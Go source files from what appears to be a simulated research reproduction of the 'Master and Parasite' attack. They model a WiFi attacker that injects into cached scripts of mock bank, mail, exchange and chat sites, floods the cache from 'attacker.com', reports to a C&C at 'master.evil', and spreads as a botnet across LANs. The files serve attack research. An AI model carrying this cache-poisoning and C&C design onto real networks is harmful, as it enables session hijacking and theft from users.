	page.Doc.OnSubmit("transfer", func(values map[string]string) {
		page.Post("/transfer", values, onResult)
	})
	page.Doc.OnSubmit("otp", func(values map[string]string) {
		page.Post("/otp", values, onResult)
	})
}

// Email is one webmail message.
type Email struct {
	From    string
	To      string
	Subject string
	Body    string
}

// Webmail is the Gmail-like application.
type Webmail struct {
	Host     string
	sessions *sessions
	Password map[string]string
	Inboxes  map[string][]Email
	Contacts map[string][]string
	Sent     []Email
}

// NewWebmail creates the webmail host with a demo mailbox.
func NewWebmail(host string) *Webmail {
	return &Webmail{
		Host:     host,
		sessions: newSessions("mail"),
		Password: map[string]string{"alice": "hunter2"},
		Inboxes: map[string][]Email{
			"alice": {
				{From: "bob@corp.example", To: "alice", Subject: "Q3 numbers", Body: "attached the confidential report"},
				{From: "carol@bank.example", To: "alice", Subject: "your account", Body: "please review statement 42"},
			},
		},
		Contacts: map[string][]string{
			"alice": {"bob@corp.example", "carol@bank.example", "dave@home.example"},
		},
	}
}

const mailScript = "/js/mail.js"

// Handler serves the vhost.
func (w *Webmail) Handler() httpsim.HandlerFunc {
	return func(req *httpsim.Request) *httpsim.Response {
		switch {
		case req.PathOnly() == mailScript:
			resp := httpsim.NewResponse(200, []byte("function mailApp(){/*genuine*/}"))
			resp.Header.Set("Content-Type", "application/javascript")
			resp.Header.Set("Cache-Control", "max-age=86400")
			return resp
		case req.Method == "GET" && req.PathOnly() == "/":
			if user, ok := w.sessions.user(req); ok {
				return htmlResponse(w.inboxPage(user), nil)
			}
			return htmlResponse(loginPage(mailScript, "WebMail"), nil)
		case req.Method == "POST" && req.PathOnly() == "/login":
			form := browser.DecodeForm(req.Body)
			if w.Password[form["user"]] != form["pass"] {
				return htmlResponse(`<html><body><div id="error">bad credentials</div></body></html>`, nil)
			}
			sid := w.sessions.create(form["user"])
			resp := htmlResponse(`<html><body><div id="ok">welcome</div></body></html>`, nil)
			resp.Header.Set("Set-Cookie", "sid="+sid)
			return resp
		case req.Method == "POST" && req.PathOnly() == "/send":
			user, ok := w.sessions.user(req)
			if !ok {
				return httpsim.NewResponse(403, nil)
			}
			form := browser.DecodeForm(req.Body)
			mail := Email{From: user, To: form["to"], Subject: form["subject"], Body: form["body"]}
			w.Sent = append(w.Sent, mail)
			if inbox, exists := w.Inboxes[form["to"]]; exists {
				w.Inboxes[form["to"]] = append(inbox, mail)
			}
			return htmlResponse(`<html><body><div id="ok">sent</div></body></html>`, nil)
		default:
			return httpsim.NewResponse(404, nil)
		}
	}
}

func (w *Webmail) inboxPage(user string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `<html><head><script src="%s"></script></head><body>`, mailScript)
	b.WriteString(`<div id="inbox">`)
	for i, m := range w.Inboxes[user] {
		fmt.Fprintf(&b, `<div class="email" id="email-%d"><span class="from">%s</span><span class="subject">%s</span><span class="body">%s</span></div>`,
			i, m.From, m.Subject, m.Body)
	}
	b.WriteString(`</div><div id="contacts">`)
	for _, c := range w.Contacts[user] {
		fmt.Fprintf(&b, `<span class="contact">%s</span>`, c)
	}
	b.WriteString(`</div>`)
	b.WriteString(`<form id="compose" action="/send"><input name="to" value=""><input name="subject" value=""><input name="body" value=""></form>`)
	b.WriteString(`</body></html>`)
	return b.String()
}

// Wire connects the page's forms to the server.
func (w *Webmail) Wire(page *browser.Page, onResult func(*httpsim.Response, error)) {
	if onResult == nil {
		onResult = func(*httpsim.Response, error) {}
	}
	page.Doc.OnSubmit("login", func(values map[string]string) {
		page.Post("/login", values, onResult)
	})
	page.Doc.OnSubmit("compose", func(values map[string]string) {
		page.Post("/send", values, onResult)
	})
}

// Social is the social-network application.
type Social struct {
	Host     string
	sessions *sessions
	Password map[string]string
	Friends  map[string][]string
	Posts    []string
}

// NewSocial creates the social network with a demo user.
func NewSocial(host string) *Social {
	return &Social{
		Host:     host,
		sessions: newSessions("soc"),
		Password: map[string]string{"alice": "hunter2"},
		Friends:  map[string][]string{"alice": {"bob", "carol", "dave", "erin"}},
	}
}

const socialScript = "/js/social.js"

// Handler serves the vhost.
func (s *Social) Handler() httpsim.HandlerFunc {
	return func(req *httpsim.Request) *httpsim.Response {
		switch {
		case req.PathOnly() == socialScript:
			resp := httpsim.NewResponse(200, []byte("function socialApp(){/*genuine*/}"))
			resp.Header.Set("Content-Type", "application/javascript")
			resp.Header.Set("Cache-Control", "max-age=86400")
			return resp
		case req.Method == "GET" && req.PathOnly() == "/":
			if user, ok := s.sessions.user(req); ok {
				return htmlResponse(s.feedPage(user), nil)
			}
			return htmlResponse(loginPage(socialScript, "FaceSpace"), nil)
		case req.Method == "POST" && req.PathOnly() == "/login":
			form := browser.DecodeForm(req.Body)
			if s.Password[form["user"]] != form["pass"] {
				return htmlResponse(`<html><body><div id="error">bad credentials</div></body></html>`, nil)
			}
			sid := s.sessions.create(form["user"])
			resp := htmlResponse(`<html><body><div id="ok">welcome</div></body></html>`, nil)
			resp.Header.Set("Set-Cookie", "sid="+sid)
			return resp
		case req.Method == "POST" && req.PathOnly() == "/post":
			if _, ok := s.sessions.user(req); !ok {
				return httpsim.NewResponse(403, nil)
			}
			form := browser.DecodeForm(req.Body)
			s.Posts = append(s.Posts, form["text"])
			return htmlResponse(`<html><body><div id="ok">posted</div></body></html>`, nil)
		default:
			return httpsim.NewResponse(404, nil)
		}
	}
}

func (s *Social) feedPage(user string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `<html><head><script src="%s"></script></head><body>`, socialScript)
	b.WriteString(`<div id="friends">`)
	for _, f := range s.Friends[user] {
		fmt.Fprintf(&b, `<span class="friend">%s</span>`, f)
	}
	b.WriteString(`</div><form id="post" action="/post"><input name="text" value=""></form></body></html>`)
	return b.String()
}

// Wire connects forms to the server.
func (s *Social) Wire(page *browser.Page, onResult func(*httpsim.Response, error)) {
	if onResult == nil {
		onResult = func(*httpsim.Response, error) {}
	}
	page.Doc.OnSubmit("login", func(values map[string]string) {
		page.Post("/login", values, onResult)
	})
	page.Doc.OnSubmit("post", func(values map[string]string) {
		page.Post("/post", values, onResult)
	})
}

// Withdrawal is one crypto-exchange withdrawal.
type Withdrawal struct {
	User    string
	Address string
	Amount  int
}

// Exchange is the crypto-exchange application.
type Exchange struct {
	Host        string
	sessions    *sessions
	Password    map[string]string
	Balances    map[string]int // user → satoshi
	Withdrawals []Withdrawal
}

// NewExchange creates the exchange with a demo account.
func NewExchange(host string) *Exchange {
	return &Exchange{
		Host:     host,
		sessions: newSessions("exch"),
		Password: map[string]string{"alice": "hunter2"},
		Balances: map[string]int{"alice": 5_000_000},
	}
}

const exchangeScript = "/js/exchange.js"

// Handler serves the vhost.
func (e *Exchange) Handler() httpsim.HandlerFunc {
	return func(req *httpsim.Request) *httpsim.Response {
		switch {
		case req.PathOnly() == exchangeScript:
			resp := httpsim.NewResponse(200, []byte("function exchApp(){/*genuine*/}"))
			resp.Header.Set("Content-Type", "application/javascript")
			resp.Header.Set("Cache-Control", "max-age=86400")
			return resp
		case req.Method == "GET" && req.PathOnly() == "/":
			if user, ok := e.sessions.user(req); ok {
				return htmlResponse(e.walletPage(user), nil)
			}
			return htmlResponse(loginPage(exchangeScript, "CoinPlace"), nil)
		case req.Method == "POST" && req.PathOnly() == "/login":
			form := browser.DecodeForm(req.Body)
			if e.Password[form["user"]] != form["pass"] {
				return htmlResponse(`<html><body><div id="error">bad credentials</div></body></html>`, nil)
			}
			sid := e.sessions.create(form["user"])
			resp := htmlResponse(`<html><body><div id="ok">welcome</div></body></html>`, nil)
			resp.Header.Set("Set-Cookie", "sid="+sid)
			return resp
		case req.Method == "POST" && req.PathOnly() == "/withdraw":
			user, ok := e.sessions.user(req)
			if !ok {
				return httpsim.NewResponse(403, nil)
			}
			form := browser.DecodeForm(req.Body)
			amount, err := strconv.Atoi(form["amount"])
			if err != nil || amount <= 0 || amount > e.Balances[user] {
				return httpsim.NewResponse(400, []byte("bad amount"))
			}
			e.Balances[user] -= amount
			e.Withdrawals = append(e.Withdrawals, Withdrawal{User: user, Address: form["address"], Amount: amount})
			return htmlResponse(`<html><body><div id="ok">withdrawal queued</div></body></html>`, nil)
		default:
			return httpsim.NewResponse(404, nil)
		}
	}
}

func (e *Exchange) walletPage(user string) string {
	return fmt.Sprintf(`<html><head><script src="%s"></script></head><body>
<div id="wallet">%d sat</div>
<form id="withdraw" action="/withdraw"><input name="address" value=""><input name="amount" value=""></form>
</body></html>`, exchangeScript, e.Balances[user])
}

// Wire connects forms to the server.
func (e *Exchange) Wire(page *browser.Page, onResult func(*httpsim.Response, error)) {
	if onResult == nil {
		onResult = func(*httpsim.Response, error) {}
	}
	page.Doc.OnSubmit("login", func(values map[string]string) {
		page.Post("/login", values, onResult)
	})
	page.Doc.OnSubmit("withdraw", func(values map[string]string) {
		page.Post("/withdraw", values, onResult)
	})
}

// ChatMessage is one chat message.
type ChatMessage struct {
	From string
	To   string
	Text string
}

// Chat is the WhatsApp-Web-like application. No login: the session is
// pre-established (as with a linked device).
type Chat struct {
	Host     string
	User     string
	Contacts []string
	History  []ChatMessage
	Sent     []ChatMessage
}

// NewChat creates the chat app with a linked session and history.
func NewChat(host string) *Chat {
	return &Chat{
		Host: host, User: "alice",
		Contacts: []string{"bob", "carol", "mom"},
		History: []ChatMessage{
			{From: "bob", To: "alice", Text: "see you at the conference"},
			{From: "mom", To: "alice", Text: "call me back please"},
		},
	}
}

const chatScript = "/js/chat.js"

// Handler serves the vhost.
func (c *Chat) Handler() httpsim.HandlerFunc {
	return func(req *httpsim.Request) *httpsim.Response {
		switch {
		case req.PathOnly() == chatScript:
			resp := httpsim.NewResponse(200, []byte("function chatApp(){/*genuine*/}"))
			resp.Header.Set("Content-Type", "application/javascript")
			resp.Header.Set("Cache-Control", "max-age=86400")
			return resp
		case req.Method == "GET" && req.PathOnly() == "/":
			return htmlResponse(c.chatPage(), nil)
		case req.Method == "POST" && req.PathOnly() == "/send":
			form := browser.DecodeForm(req.Body)
			msg := ChatMessage{From: c.User, To: form["to"], Text: form["text"]}
			c.Sent = append(c.Sent, msg)
			c.History = append(c.History, msg)
			return htmlResponse(`<html><body><div id="ok">sent</div></body></html>`, nil)
		default:
			return httpsim.NewResponse(404, nil)
		}
	}
}

func (c *Chat) chatPage() string {
	var b strings.Builder
	fmt.Fprintf(&b, `<html><head><script src="%s"></script></head><body>`, chatScript)
	b.WriteString(`<div id="contacts">`)
	for _, ct := range c.Contacts {
		fmt.Fprintf(&b, `<span class="contact">%s</span>`, ct)
	}
	b.WriteString(`</div><div id="history">`)
	for _, m := range c.History {
		fmt.Fprintf(&b, `<div class="msg"><span class="from">%s</span><span class="text">%s</span></div>`, m.From, m.Text)
	}
	b.WriteString(`</div><form id="sendmsg" action="/send"><input name="to" value=""><input name="text" value=""></form></body></html>`)
	return b.String()
}

// Wire connects forms to the server.
func (c *Chat) Wire(page *browser.Page, onResult func(*httpsim.Response, error)) {
	if onResult == nil {
		onResult = func(*httpsim.Response, error) {}
	}
	page.Doc.OnSubmit("sendmsg", func(values map[string]string) {
		page.Post("/send", values, onResult)
	})
}

// ScriptPaths maps each app host to its persistent script path — the
// infection targets for Table V runs.
func ScriptPaths() map[string]string {
	return map[string]string{
		"bank":     bankScript,
		"mail":     mailScript,
		"social":   socialScript,
		"exchange": exchangeScript,
		"chat":     chatScript,
	}
}
