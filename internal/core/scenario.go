// Package core orchestrates the full Master-and-Parasite kill chain on
// the simulated network: victim browser, legitimate web servers, the
// eavesdropping master with its eviction and infection modules, and the
// covert C&C endpoint. The experiments package drives Scenario instances
// to regenerate every table and figure of the paper.
package core

import (
	"errors"
	"fmt"
	"strings"
	"time"

	"masterparasite/internal/attacker"
	"masterparasite/internal/browser"
	"masterparasite/internal/cnc"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/netsim"
	"masterparasite/internal/parasite"
	"masterparasite/internal/replay"
	"masterparasite/internal/tcpsim"
)

// Network locations inside a scenario.
const (
	webAddr      netsim.Addr = "web-farm"
	attackerAddr netsim.Addr = "attacker-box"
	victimAddr   netsim.Addr = "victim"

	// MasterHost is the attacker's C&C domain.
	MasterHost = "master.evil"
	// JunkHost is the attacker's junk-object domain (eviction flood).
	JunkHost = "attacker.com"
)

// Timing: the attacker sits on the victim's WiFi (sub-millisecond away);
// the genuine servers are an internet round trip away. This asymmetry is
// what makes the injected response win (§V).
const (
	wifiLatency   = 200 * time.Microsecond
	victimDelay   = 300 * time.Microsecond
	attackerDelay = 100 * time.Microsecond
	serverDelay   = 12 * time.Millisecond
)

// Config parameterises a scenario.
type Config struct {
	// Profile is the victim browser ("Chrome", "Chrome*", "IE", ...).
	Profile string
	// ProfileOverride substitutes a fully custom profile (experiments use
	// purpose-sized caches so eviction floods stay tractable).
	ProfileOverride *browser.Profile
	// OS is the victim platform (default Win10).
	OS browser.OS
	// Seed keeps runs reproducible.
	Seed int64
	// EnforceCSP toggles victim-side CSP enforcement (default on; set
	// DisableCSP to turn off).
	DisableCSP bool
	// ReassemblyPolicy overrides the victim TCP stack's overlap handling
	// (FirstWins by default; LastWins for the ablation).
	ReassemblyPolicy tcpsim.ReassemblyPolicy
	// FraudulentCertHosts grants the master mis-issued certificates.
	FraudulentCertHosts []string
	// ServerDelay overrides the web farm / attacker-server RTT (default
	// 12 ms). The replay subsystem uses it as a perturbation knob: a
	// recorded run re-driven with a different server latency diverges at
	// the first server-side wire event, pinpointing the timing change.
	ServerDelay time.Duration
	// Link applies a fault profile (loss/jitter/reorder/duplication/
	// bandwidth) to the WiFi segment. nil keeps the historical perfect
	// wire. Faulted scenarios almost always want Retransmit too.
	Link *netsim.LinkProfile
	// Retransmit enables tcpsim's retransmission state machine on every
	// scenario stack (victim, web farm, attacker server). Off by
	// default: the clean-wire artifacts were recorded without it and
	// their bytes are pinned by golden and fingerprint tests.
	Retransmit bool
}

// Scenario is one assembled attack laboratory.
type Scenario struct {
	Net      *netsim.Network
	Wifi     *netsim.Segment
	Victim   *browser.Browser
	Master   *attacker.Master
	CNC      *cnc.MasterServer
	Registry *parasite.Registry

	sites    map[string]*httpsim.Response   // "host/path" → response
	handlers map[string]httpsim.HandlerFunc // host → dynamic handler
	tls      map[string]bool                // hosts served over the sealed channel
	served   map[string]int

	// lastTLSKey records which vhost key opened the in-flight sealed
	// request so the response is sealed with the same one. The event loop
	// is single-threaded, so request/response pairing is safe.
	lastTLSKey string

	// StrictCSP is a convenience knob experiments set before installing
	// pages: when true they serve "default-src 'self'" policies.
	StrictCSP bool

	// retransmit remembers whether stacks are built with retransmission,
	// so AddVictim attaches extra victims with the same transport.
	retransmit bool
}

// NewScenario assembles the network of Fig. 1/2: victim and attacker on
// the same WiFi segment, web farm and attacker server across the uplink.
func NewScenario(cfg Config) (*Scenario, error) {
	if cfg.Profile == "" {
		cfg.Profile = "Chrome"
	}
	if cfg.OS == "" {
		cfg.OS = browser.Win10
	}
	if cfg.Seed == 0 {
		cfg.Seed = 1
	}
	var profile browser.Profile
	if cfg.ProfileOverride != nil {
		profile = *cfg.ProfileOverride
	} else {
		var err error
		profile, err = browser.ProfileByName(cfg.Profile)
		if err != nil {
			return nil, err
		}
	}

	s := &Scenario{
		Net:      netsim.New(),
		sites:    make(map[string]*httpsim.Response),
		handlers: make(map[string]httpsim.HandlerFunc),
		tls:      make(map[string]bool),
		served:   make(map[string]int),
	}
	s.Wifi = s.Net.MustSegment("public-wifi", wifiLatency)
	if cfg.Link != nil {
		s.Wifi.SetLinkProfile(*cfg.Link)
	}
	s.retransmit = cfg.Retransmit
	stackOpts := func(seed int64) []tcpsim.StackOption {
		opts := []tcpsim.StackOption{tcpsim.WithSeed(seed)}
		if cfg.Retransmit {
			opts = append(opts, tcpsim.WithRetransmit())
		}
		return opts
	}

	srvDelay := serverDelay
	if cfg.ServerDelay > 0 {
		srvDelay = cfg.ServerDelay
	}

	// Legitimate web farm: one address hosting all site vhosts, plain
	// and sealed listeners.
	webIfc, err := s.Wifi.Attach(webAddr, srvDelay, nil)
	if err != nil {
		return nil, fmt.Errorf("scenario web attach: %w", err)
	}
	webStack := tcpsim.NewStack(s.Net, webIfc, stackOpts(cfg.Seed+100)...)
	if _, err := httpsim.NewServer(webStack, 80, s.serve); err != nil {
		return nil, fmt.Errorf("scenario web server: %w", err)
	}
	if _, err := httpsim.NewServerSealed(webStack, 443, vhostSealer{s: s}, s.serve); err != nil {
		return nil, fmt.Errorf("scenario tls server: %w", err)
	}

	// Attacker's remote infrastructure: junk objects + C&C, dispatched
	// by Host header on one address.
	atkIfc, err := s.Wifi.Attach(attackerAddr, srvDelay, nil)
	if err != nil {
		return nil, fmt.Errorf("scenario attacker attach: %w", err)
	}
	atkStack := tcpsim.NewStack(s.Net, atkIfc, stackOpts(cfg.Seed+200)...)
	s.CNC = cnc.NewMasterServer()
	cncHandler := attacker.CNCAdapter(s.CNC)
	junkBlob := strings.Repeat("j", 4096)
	if _, err := httpsim.NewServer(atkStack, 80, func(req *httpsim.Request) *httpsim.Response {
		switch req.Host {
		case MasterHost:
			return cncHandler(req)
		case JunkHost:
			resp := httpsim.NewResponse(200, []byte(junkBlob))
			resp.Header.Set("Content-Type", "image/jpeg")
			resp.Header.Set("Cache-Control", "public, max-age=31536000")
			return resp
		default:
			return httpsim.NewResponse(404, nil)
		}
	}); err != nil {
		return nil, fmt.Errorf("scenario attacker server: %w", err)
	}

	// Victim browser.
	victim, err := browser.New(s.Net, browser.Config{
		Profile:    profile,
		OS:         cfg.OS,
		Segment:    s.Wifi,
		Addr:       victimAddr,
		Resolver:   s.resolve,
		Delay:      victimDelay,
		Seed:       cfg.Seed,
		Reassembly: cfg.ReassemblyPolicy,
		Retransmit: cfg.Retransmit,
	})
	if err != nil {
		return nil, fmt.Errorf("scenario victim: %w", err)
	}
	s.Victim = victim
	if cfg.DisableCSP {
		s.Victim.EnforceCSP = false
	}

	// The master's tap, closest to the victim.
	var opts []attacker.Option
	for _, h := range cfg.FraudulentCertHosts {
		opts = append(opts, attacker.WithFraudulentCert(h))
	}
	s.Master = attacker.New(s.Net, s.Wifi, attackerDelay, opts...)

	// Parasite machinery on the victim's runtime.
	s.Registry = parasite.NewRegistry()
	attacker.RegisterEvictionBehavior(s.Victim.ScriptRuntime())
	parasite.RegisterBehaviors(s.Victim.ScriptRuntime(), s.Registry)
	return s, nil
}

// vhostSealer opens sealed frames with any of the scenario's TLS hosts'
// keys (the web farm holds every site's certificate).
type vhostSealer struct{ s *Scenario }

func (v vhostSealer) Seal(p []byte) []byte {
	// Responses are sealed with the key of the request's host; the
	// server path seals after serve() recorded the host.
	return httpsim.XORSealer{Key: v.s.lastTLSKey}.Seal(p)
}

func (v vhostSealer) Open(b []byte) ([]byte, int, error) {
	var firstErr error
	for host, isTLS := range v.s.tls {
		if !isTLS {
			continue
		}
		plain, n, err := (httpsim.XORSealer{Key: httpsim.HostKey(host)}).Open(b)
		if err == nil {
			v.s.lastTLSKey = httpsim.HostKey(host)
			return plain, n, nil
		}
		if firstErr == nil || errors.Is(err, httpsim.ErrSealIncomplete) {
			firstErr = err
		}
	}
	if firstErr == nil {
		firstErr = httpsim.ErrSealCorrupt
	}
	return nil, 0, firstErr
}

// AddPage registers a static page on a host.
func (s *Scenario) AddPage(host, path, body string, hdr map[string]string) {
	resp := httpsim.NewResponse(200, []byte(body))
	for k, v := range hdr {
		resp.Header.Set(k, v)
	}
	if !resp.Header.Has("Cache-Control") {
		resp.Header.Set("Cache-Control", "max-age=3600")
	}
	s.sites[host+path] = resp
}

// AddHandler registers a dynamic vhost (the simulated applications).
func (s *Scenario) AddHandler(host string, h httpsim.HandlerFunc) {
	s.handlers[host] = h
}

// SetTLS marks a host as HTTPS-only.
func (s *Scenario) SetTLS(host string, on bool) { s.tls[host] = on }

// Served reports how many times the web farm answered for a URL.
func (s *Scenario) Served(url string) int { return s.served[url] }

// serve is the web farm's dispatch.
func (s *Scenario) serve(req *httpsim.Request) *httpsim.Response {
	if h, ok := s.handlers[req.Host]; ok {
		s.served[req.Host+req.Path]++
		return h(req)
	}
	key := req.Host + req.Path
	resp, ok := s.sites[key]
	if !ok {
		// Name-based lookup: cache-buster queries resolve to the object.
		if i := strings.IndexByte(key, '?'); i >= 0 {
			resp, ok = s.sites[key[:i]]
		}
	}
	if !ok {
		return httpsim.NewResponse(404, []byte("not found"))
	}
	s.served[key]++
	if inm := req.Header.Get("If-None-Match"); inm != "" && inm == resp.Header.Get("Etag") {
		return httpsim.NewResponse(304, nil)
	}
	clone := httpsim.NewResponse(resp.StatusCode, append([]byte(nil), resp.Body...))
	clone.Header = resp.Header.Clone()
	return clone
}

// resolve is the scenario DNS.
func (s *Scenario) resolve(host string) (browser.Endpoint, bool) {
	switch host {
	case MasterHost, JunkHost:
		return browser.Endpoint{Addr: attackerAddr, Port: 80}, true
	default:
		if s.tls[host] {
			return browser.Endpoint{Addr: webAddr, Port: 443, TLS: true}, true
		}
		return browser.Endpoint{Addr: webAddr, Port: 80}, true
	}
}

// Visit loads a page in the victim browser and drains the network.
func (s *Scenario) Visit(host, path string) (*browser.Page, error) {
	return s.visit(host, path, browser.VisitOpts{})
}

// VisitHard performs a Ctrl+F5 load.
func (s *Scenario) VisitHard(host, path string) (*browser.Page, error) {
	return s.visit(host, path, browser.VisitOpts{HardReload: true})
}

// VisitWired loads a page with an application wiring callback that runs
// before scripts execute (the app's genuine submit handlers).
func (s *Scenario) VisitWired(host, path string, wire func(*browser.Page)) (*browser.Page, error) {
	return s.visit(host, path, browser.VisitOpts{OnDocument: wire})
}

// Run drains pending network events (after DOM interactions that trigger
// background requests).
func (s *Scenario) Run() { s.Net.Run(0) }

func (s *Scenario) visit(host, path string, opts browser.VisitOpts) (*browser.Page, error) {
	var page *browser.Page
	var verr error
	s.Victim.VisitWith(host, path, opts, func(p *browser.Page, err error) { page, verr = p, err })
	s.Net.Run(0)
	if verr != nil {
		return nil, verr
	}
	if page == nil {
		return nil, errors.New("core: page load did not complete")
	}
	return page, nil
}

// AttachReplay wires the record/replay subsystem into the scenario: the
// netsim wire tap and the C&C exchange observer feed one replay.Tap,
// which fans canonical events out to rec (capture + divergence
// fingerprint) and/or chk (live verification against a recorded log).
// Either may be nil. Attach before the first Visit so the log covers the
// whole run.
func (s *Scenario) AttachReplay(rec *replay.Recorder, chk *replay.Checker) *replay.Tap {
	t := replay.NewTap(rec, chk)
	t.Attach(s.Net)
	s.CNC.SetExchangeObserver(func(x cnc.Exchange) {
		t.ObserveCNC(x.Bot, x.Path, x.Status, x.RespBytes)
	})
	return t
}

// LeaveAttackerNetwork models the victim moving to its home network: the
// master stops observing and injecting; all servers stay reachable.
func (s *Scenario) LeaveAttackerNetwork() {
	s.Master.Sniffer().Stop()
}

// ScheduleChurn models the victim flapping on and off the network: at
// each cycle start (relative virtual time) the victim's interface stops
// receiving for gap, then rejoins. All instants are scheduled on the
// deterministic virtual clock, so churn composes with link faults
// without disturbing byte-identity. With retransmission enabled the
// transport rides out each outage; without it, in-flight exchanges die.
func (s *Scenario) ScheduleChurn(b *browser.Browser, start, period, gap time.Duration, cycles int) {
	ifc := b.Interface()
	for i := 0; i < cycles; i++ {
		at := start + time.Duration(i)*period
		s.Net.Schedule(at, func() { ifc.SetReceiveDrop(true) })
		s.Net.Schedule(at+gap, func() { ifc.SetReceiveDrop(false) })
	}
}

// AddVictim attaches another victim browser to the WiFi segment — the
// botnet case: the master infects every client it can see, and each
// parasite reports to the C&C under its own bot identity.
func (s *Scenario) AddVictim(addr netsim.Addr, profile string, seed int64) (*browser.Browser, error) {
	p, err := browser.ProfileByName(profile)
	if err != nil {
		return nil, err
	}
	b, err := browser.New(s.Net, browser.Config{
		Profile:    p,
		OS:         browser.Win10,
		Segment:    s.Wifi,
		Addr:       addr,
		Resolver:   s.resolve,
		Delay:      victimDelay,
		Seed:       seed,
		Retransmit: s.retransmit,
	})
	if err != nil {
		return nil, fmt.Errorf("scenario extra victim: %w", err)
	}
	attacker.RegisterEvictionBehavior(b.ScriptRuntime())
	parasite.RegisterBehaviors(b.ScriptRuntime(), s.Registry)
	return b, nil
}

// VisitAs loads a page in a specific victim browser.
func (s *Scenario) VisitAs(b *browser.Browser, host, path string) (*browser.Page, error) {
	var page *browser.Page
	var verr error
	b.Visit(host, path, func(p *browser.Page, err error) { page, verr = p, err })
	s.Net.Run(0)
	if verr != nil {
		return nil, verr
	}
	if page == nil {
		return nil, errors.New("core: page load did not complete")
	}
	return page, nil
}
