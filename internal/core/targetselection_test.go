package core

import (
	"sort"
	"strings"
	"testing"

	"masterparasite/internal/attacker"
	"masterparasite/internal/crawler"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/parasite"
	"masterparasite/internal/script"
	"masterparasite/internal/webcorpus"
)

func TestCrawlerSelectedTargetsAreInfectable(t *testing.T) {
	// The §VI-A pipeline end to end: the crawler identifies name-stable
	// scripts on the synthetic population; the master arms exactly those;
	// the victim then browses the live site (served from the same corpus)
	// and the selected object gets infected.
	corpus := webcorpus.Generate(webcorpus.Params{Sites: 40, Seed: 21})
	targets := crawler.SelectTargets(corpus, 30)
	if len(targets) == 0 {
		t.Fatal("crawler selected no targets")
	}
	// Pick the first (alphabetical) host with a stable script.
	hosts := make([]string, 0, len(targets))
	for h := range targets {
		hosts = append(hosts, h)
	}
	sort.Strings(hosts)
	host := hosts[0]
	stable := targets[host]
	sort.Strings(stable)
	targetURL := stable[0]

	var site *webcorpus.Site
	for _, s := range corpus.Sites {
		if s.Host == host {
			site = s
		}
	}
	if site == nil {
		t.Fatal("selected host missing from corpus")
	}

	s, err := NewScenario(Config{Seed: 83})
	if err != nil {
		t.Fatal(err)
	}
	// Serve the corpus site live: the front page comes from RenderPage
	// (day 30 of the study), objects from a synthetic handler.
	const day = 30
	s.AddHandler(host, func(req *httpsim.Request) *httpsim.Response {
		if req.PathOnly() == "/" {
			return site.RenderPage(day)
		}
		url := host + req.PathOnly()
		for _, o := range site.ObjectsOn(day) {
			if o.Name == url {
				resp := httpsim.NewResponse(200, []byte("/* "+o.Hash+" */"))
				resp.Header.Set("Content-Type", "application/javascript")
				resp.Header.Set("Cache-Control", "max-age=86400")
				return resp
			}
		}
		return httpsim.NewResponse(404, nil)
	})

	cfg := parasite.NewConfig("sel", "bot-sel", MasterHost)
	cfg.Propagate = false
	s.Registry.Add(cfg)
	s.Master.AddTarget(attacker.Target{
		Name: targetURL, Kind: attacker.KindJS,
		ParasitePayload: "sel", Original: []byte("/* original */"),
	})

	page, err := s.Visit(host, "/")
	if err != nil {
		t.Fatal(err)
	}
	infected := false
	for _, sc := range page.Scripts {
		if script.Name(sc.URL) == targetURL && script.Infected(sc.Content) {
			infected = true
		}
	}
	if !infected {
		var loaded []string
		for _, sc := range page.Scripts {
			loaded = append(loaded, sc.URL)
		}
		t.Fatalf("selected target %s not infected; page loaded %v", targetURL, loaded)
	}
	// The infected copy is cached under the stable name, so it will be
	// invoked on every future visit for (at least) the crawled window.
	e, ok := s.Victim.Cache().Get(host, targetURL)
	if !ok || !script.Infected(e.Body) {
		t.Fatal("stable-name cache entry not poisoned")
	}
	if !strings.Contains(e.Header.Get("Cache-Control"), "max-age=31536000") {
		t.Fatal("poisoned entry lifetime not maximised")
	}
}
