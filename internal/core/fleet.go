package core

import (
	"fmt"
	"math/rand"
	"sort"
	"time"

	"masterparasite/internal/netsim"
	"masterparasite/internal/runner"
)

// The fleet generator: parameterized N-LANs × M-victims topologies on
// the sharded netsim fabric. Each LAN is one shard — a coffee-shop WiFi
// of the paper, with its own event heap and frame pool — and a backbone
// shard hosts the C&C master. Infection seeds per LAN, spreads by
// seeded local gossip (the master on that WiFi infecting every client
// it can see, §VI-C's botnet case), and every newly infected bot
// registers with the C&C across the uplink and receives its first
// command back. All randomness derives from FleetConfig.Seed via
// per-LAN PRNGs that only ever run on their own shard, so a fleet run
// is byte-identical at any worker count.

// CNCAddr is the C&C master's address on the backbone shard.
const CNCAddr netsim.Addr = "cnc-master"

// FleetConfig parameterises a botnet fleet topology.
type FleetConfig struct {
	// LANs is the number of LAN shards (coffee-shop WiFis).
	LANs int
	// BotsPerLAN is the number of victim stations per LAN.
	BotsPerLAN int
	// Seed drives every random choice: patient zero per LAN, gossip
	// targets and delays. Zero selects 1.
	Seed int64
	// UplinkLatency is the declared minimum LAN→backbone crossing time;
	// it becomes the fabric's lookahead. Zero selects 5ms.
	UplinkLatency time.Duration
	// GossipFanout is how many LAN neighbours each newly infected bot
	// attacks. Zero selects 3.
	GossipFanout int
	// CommandBytes sizes the C&C command each registered bot receives.
	// Zero selects 96.
	CommandBytes int
	// Link, when non-nil, impairs every LAN segment with the given
	// fault profile (each LAN draws from its own seeded PRNG).
	Link *netsim.LinkProfile
}

// withDefaults resolves the zero-value knobs.
func (c FleetConfig) withDefaults() FleetConfig {
	if c.Seed == 0 {
		c.Seed = 1
	}
	if c.UplinkLatency == 0 {
		c.UplinkLatency = 5 * time.Millisecond
	}
	if c.GossipFanout == 0 {
		c.GossipFanout = 3
	}
	if c.CommandBytes == 0 {
		c.CommandBytes = 96
	}
	return c
}

// InfectionEvent is one bot falling to the parasite.
type InfectionEvent struct {
	At  time.Duration `json:"at_ns"`
	LAN int           `json:"lan"`
	Bot int           `json:"bot"`
}

// FleetResult is the aggregated outcome of one fleet run. Every field
// is derived from virtual time and per-shard state merged in shard
// order, so results are identical at any worker count.
type FleetResult struct {
	Bots         int
	Infected     int
	Registered   int // REG frames the C&C master accepted
	Commanded    int // bots whose first command arrived
	CommandBytes int // total command payload delivered
	Events       int
	// Infections is the global infection log, ordered by
	// (time, LAN, bot) — the infection curve's raw data.
	Infections []InfectionEvent
	// Latencies are the per-bot REG→command round trips in
	// (LAN, bot index) order; zero entries are bots never commanded.
	Latencies []time.Duration
